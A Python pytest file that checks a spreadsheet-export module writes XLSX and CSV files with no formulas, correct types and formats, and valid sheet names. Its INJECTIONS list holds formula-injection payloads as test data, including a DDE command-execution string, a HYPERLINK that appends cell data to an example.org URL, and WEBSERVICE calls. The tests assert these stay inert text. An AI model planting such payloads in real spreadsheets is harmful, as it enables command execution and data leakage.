"""Workbooks and CSV: what goes in comes out, and no text ever becomes a formula."""

import csv as standard
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import openpyxl
import pytest
from defusedxml.ElementTree import fromstring
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import load_workbook

from events.foundation.spreadsheet import Column, Kind, Table, cell_text, csv, guarded, is_risky, unguarded, xlsx

INJECTIONS = (
    "=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"按此")',
    '=cmd|"/C calc"!A0',
    "=WEBSERVICE(A1)",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹣1",
    "\ufeff=1+1",
    "\u200b@x",
    "=",
)
HARMLESS = ("轻翼革业", "138****5678", "a=b", "1-2", "'quoted", " 空格在前", "", "〔2026〕1号", "_x0041_", "行一\n行二")
RARE = ("𠮷田", "䶮", "\ufa19", "\ue000", "\U00030000", "👩‍👩‍👧", "a\u202eb", "x\x01y", "x\ry", "ﷺ" * 50)
COLUMNS = (
    Column("企业名称"),
    Column("统一社会信用代码", Kind.CODE),
    Column("金额", Kind.DECIMAL),
    Column("人数", Kind.NUMBER),
    Column("日期", Kind.DATE),
    Column("时间", Kind.TIME),
    Column("说明", Kind.LONG),
)
MORNING = datetime(2026, 12, 10, 1, 5, tzinfo=UTC)
ROW = ("轻翼革业", "013300000000000000", Decimal("1234.5"), 3, date(2026, 12, 10), MORNING, "需要 500 吨")


def table(*texts: str) -> Table:
    return Table("台账", (Column("文字"),), [(text,) for text in texts], heading=False)


def sheet_of(content: bytes, place: int = 0) -> Worksheet:
    return openpyxl.load_workbook(BytesIO(content)).worksheets[place]


@pytest.mark.parametrize("text", INJECTIONS)
def test_risky_text_is_text_in_a_workbook_and_stays_so_when_edited(text: str) -> None:
    cell = sheet_of(xlsx([table(text)])).cell(2, 1)
    assert (cell.data_type, cell.number_format, cell.quotePrefix) == ("s", "@", True)
    assert cell_text(str(cell.value)) == text


def test_no_part_of_a_workbook_holds_a_formula() -> None:
    risky = Table("=1+1", [Column(text) for text in INJECTIONS], [INJECTIONS], INJECTIONS, "=2", INJECTIONS)
    with zipfile.ZipFile(BytesIO(xlsx([risky]))) as parts:
        for name in parts.namelist():
            if name.endswith((".xml", ".rels")):
                assert not [one.tag for one in fromstring(parts.read(name)).iter() if one.tag.endswith("}f")], name


@pytest.mark.parametrize("text", INJECTIONS)
def test_risky_text_is_guarded_in_csv(text: str) -> None:
    line = next(standard.reader(StringIO(csv(table(text)).decode("utf-8-sig").split("\r\n", 1)[1], newline="")))
    assert line == ["'" + text]
    assert is_risky(text)
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["'=1+1", "''=1+1", "' OR '1'='1", "'", "it's =1"])
def test_apostrophes_people_typed_come_back_from_csv(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", [*HARMLESS, *RARE])
def test_other_text_is_left_alone_in_csv(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text
    content = csv(table(text, "末")).decode("utf-8-sig")
    assert list(standard.reader(StringIO(content, newline=""))) == [["文字"], [text] if text else [""], ["末"]]


@pytest.mark.parametrize("text", [text for text in (*HARMLESS, *RARE) if text])
def test_text_comes_out_of_a_workbook_as_it_went_in(text: str) -> None:
    content = xlsx([table(text)])
    assert cell_text(str(sheet_of(content).cell(2, 1).value)) == text
    assert load_workbook(BytesIO(content)).get_sheet_by_index(0).to_python()[1] == [text]


def test_each_kind_of_column_has_its_type_and_format() -> None:
    cells = sheet_of(xlsx([Table("台账", COLUMNS, [ROW], heading=False)]))[2]
    assert [(cell.value, cell.number_format) for cell in cells] == [
        ("轻翼革业", "@"),
        ("013300000000000000", "@"),
        (1234.5, "#,##0.0"),
        (3, "#,##0"),
        (datetime(2026, 12, 10), "yyyy-mm-dd"),  # noqa: DTZ001 - workbooks know no zones
        (datetime(2026, 12, 10, 9, 5), "yyyy-mm-dd hh:mm"),  # noqa: DTZ001 - as above
        ("需要 500 吨", "@"),
    ]


def test_amounts_keep_fifteen_digits_and_show_only_the_decimals_they_have() -> None:
    amounts = (Decimal("0.000001"), Decimal("123456789.123456"), Decimal(100), Decimal("1E+3"), Decimal("-2.50"))
    content = xlsx([Table("台账", (Column("金额", Kind.DECIMAL),), [(amount,) for amount in amounts], heading=False)])
    with zipfile.ZipFile(BytesIO(content)) as parts:
        root = fromstring(parts.read("xl/worksheets/sheet1.xml"))
    stored = [Decimal(one.text) for one in root.iter() if one.tag.endswith("}v")]
    assert stored[-5:] == list(amounts)
    formats = [sheet_of(content).cell(row, 1).number_format for row in range(2, 7)]
    assert formats == ["#,##0.000000", "#,##0.000000", "#,##0", "#,##0", "#,##0.0"]


def test_words_in_a_column_of_figures_stay_words() -> None:
    cell = sheet_of(xlsx([Table("台账", (Column("金额", Kind.DECIMAL),), [("面议",)], heading=False)])).cell(2, 1)
    assert (cell.value, cell.number_format) == ("面议", "@")


def test_an_empty_cell_is_empty() -> None:
    content = xlsx([Table("台账", COLUMNS, [(None,) * 7], heading=False)])
    assert [cell.value for cell in sheet_of(content)[2]] == [None] * 7


def test_title_unit_header_total_and_notes_stand_in_their_places() -> None:
    sheet = sheet_of(xlsx([Table("情况", COLUMNS[:1], [("甲",), ("乙",)], ("合计",), "单位：家", ("注：示例",))]))
    assert [row[0].value for row in sheet.iter_rows()] == [
        "情况",
        "单位：家",
        "企业名称",
        "甲",
        "乙",
        "合计",
        "注：示例",
    ]
    assert [sheet.cell(row, 1).font.bold for row in range(1, 8)] == [True, False, True, False, False, True, False]
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:A5"
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.cell(2, 1).alignment.horizontal == "right"


def test_without_a_heading_the_first_line_is_the_header() -> None:
    sheet = sheet_of(xlsx([Table("情况", COLUMNS[:1], [("甲",)], unit="单位：家", notes=("注",), heading=False)]))
    assert [row[0].value for row in sheet.iter_rows()] == ["企业名称", "甲"]
    assert sheet.freeze_panes == "A2"


def test_columns_are_as_wide_as_their_words() -> None:
    long = Table("台账", (Column("名"), Column("称"), Column("言", Kind.LONG)), [("一" * 10, "一" * 90, "一")])
    sheet = sheet_of(xlsx([long]))
    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [22, 40, 48]


def test_a_workbook_has_a_sheet_per_table_with_names_excel_accepts() -> None:
    titles = ["需求/清单", "需求:清单", "A" * 40, "a" * 40, "'引'", "[]"]
    book = openpyxl.load_workbook(BytesIO(xlsx([Table(title, COLUMNS, [ROW]) for title in titles])))
    assert book.sheetnames == ["需求 清单", "需求 清单 2", "A" * 31, "a" * 29 + " 2", "引", "Sheet"]


def test_a_text_longer_than_a_cell_ends_in_an_ellipsis() -> None:
    stored = str(sheet_of(xlsx([table("字" * 40_000)])).cell(2, 1).value)
    assert len(stored) == 32_767
    assert stored.endswith("字…")


def test_csv_starts_with_a_bom_and_holds_records_only() -> None:
    content = csv(Table("情况", COLUMNS, [ROW, (None,) * 7], ROW, "单位", ("注",)))
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig").split("\r\n") == [
        "企业名称,统一社会信用代码,金额,人数,日期,时间,说明",
        "轻翼革业,013300000000000000,1234.5,3,2026-12-10,2026-12-10 09:05,需要 500 吨",
        ",,,,,,",
        "",
    ]


def test_negative_figures_are_figures_not_risks() -> None:
    amounts = Table("台账", (Column("金额", Kind.DECIMAL), Column("数", Kind.NUMBER)), [(Decimal("-1E+1"), -3)])
    assert csv(amounts).decode("utf-8-sig").split("\r\n")[1] == "-10,-3"


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match=r"row 2 of '台账' has 1 cells, not 7"):
        Table("台账", COLUMNS, [ROW, ("甲",)])


def test_a_workbook_without_a_table_is_refused() -> None:
    with pytest.raises(ValueError, match="needs a sheet"):
        xlsx([])
